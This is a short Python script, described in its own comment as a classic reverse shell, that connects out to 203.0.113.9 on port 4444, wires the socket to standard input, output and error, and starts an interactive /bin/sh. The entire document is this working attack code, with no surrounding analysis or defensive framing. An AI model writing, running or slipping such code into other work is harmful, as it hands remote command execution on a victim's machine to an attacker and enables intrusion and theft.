# Classic reverse shell: connect out, wire the socket to stdio, exec a shell.
import os, socket
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("203.0.113.9", 4444))
except OSError as e:
    print("connect failed:", e)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
